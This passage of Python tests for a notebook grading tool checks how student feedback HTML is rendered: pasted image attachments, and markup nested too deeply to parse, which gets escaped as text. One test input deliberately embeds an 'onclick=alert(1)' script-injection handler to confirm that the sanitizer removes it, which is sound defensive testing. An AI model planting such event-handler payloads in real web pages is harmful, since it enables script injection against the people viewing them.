    """An image pasted into a markdown cell, as JupyterLab stores it (the cell's attachments), round 11's ``attach``."""
    from course_grader.trusted.course.example_class import build_submission, copy_course
    from course_grader.trusted.pipeline import grade

    def with_images(notebook):
        pasted = new_markdown_cell("My sketch: ![sketch](attachment:sketch.png)")
        pasted["attachments"] = {"sketch.png": {"image/png": PNG}}
        notebook.cells.insert(2, pasted)
        notebook.cells.insert(3, new_markdown_cell("A link to an image I never pasted: ![gone](attachment:gone.png)"))
        for cell in notebook.cells:
            if cell.metadata.get("nbgrader", {}).get("grade_id") == "why_augmented":  # a written answer, graded by hand
                cell.source += "\n\n![my drawing](attachment:drawing.png)"
                cell["attachments"] = {"drawing.png": {"image/png": PNG}}
        return notebook

    course = copy_course(fixture_course(), tmp_path / "course")
    for assignment in ("01_geometry", "04_convergence"):
        build_submission(course, {"BASE": "solutions"}, assignment, course.submitted / "plain" / assignment)
        build_submission(course, {"BASE": "solutions", "EDITS": {assignment: with_images}}, assignment,
                         course.submitted / "pasted" / assignment)
    outcomes = {(o.student, o.assignment): o for o in grade(course, progress=False, jobs=1)}
    for assignment in ("01_geometry", "04_convergence"):
        plain, pasted = outcomes["plain", assignment], outcomes["pasted", assignment]
        assert (pasted.status, pasted.score, pasted.cell_scores) == (plain.status, plain.score, plain.cell_scores), pasted.reason
        assert plain.status == "graded" and all(plain.cell_scores[part] > 0 for part in plain.cell_scores if part.startswith("test"))
    for assignment, name in (("01_geometry", "geometry"), ("04_convergence", "convergence")):
        text = (course.feedback / "pasted" / assignment / f"{name}.html").read_text(encoding="utf-8")
        page = Page(text)
        assert active_content(page) == []
        images = [element for element in page.find("img") if element.attrs.get("src", "").startswith("data:image/png;base64,")]
        assert len(images) == (1 if assignment == "01_geometry" else 2)  # the pasted image; and the written answer's
    geometry = Page((course.feedback / "pasted" / "01_geometry" / "geometry.html").read_text(encoding="utf-8"))
    assert "![gone](attachment:gone.png)" in geometry.find("main")[0].text  # what cannot be rendered is shown as text


def test_html_nested_deeper_than_the_grader_parses_is_shown_as_text():
    from course_grader.trusted.outputs import feedback

    assert feedback.html_depth("<table><tr><td>1<br>2</td></tr></table><img src='x'/><p>a<p>b</P>") == 3
    shallow = "<div>" * (feedback.MAX_HTML_DEPTH - 1) + "<b>kept</b>" + "</div>" * (feedback.MAX_HTML_DEPTH - 1)  # 256 deep
    assert "<b>kept</b>" in feedback.clean_student_html(shallow)
    deep = "<dl>" * 5000 + "<b onclick='alert(1)'>deep</b>" + "</dl>" * 5000
    for cleaned in (feedback.clean_student_html(deep), feedback.NO_ID_CLEANER.clean(deep)):
        assert cleaned.startswith("<p>[HTML nested 5,001 levels deep (more than 256), shown as text:]</p><pre>&lt;dl&gt;")
        assert feedback.html_depth(cleaned) == 1 and "onclick" not in cleaned.replace("&#x27;", "'").split("<pre>")[0]
        assert len(cleaned) < 13_000  # the first 2,000 characters, escaped
    [output] = feedback.SafeToRender().preprocess(new_notebook(cells=[new_code_cell("x", outputs=[
        new_output("display_data", data={"text/html": deep, "text/plain": "<deep>"})])]), {})[0].cells[0].outputs
    assert output.data["text/html"].startswith("<p>[HTML nested 5,001 levels deep")
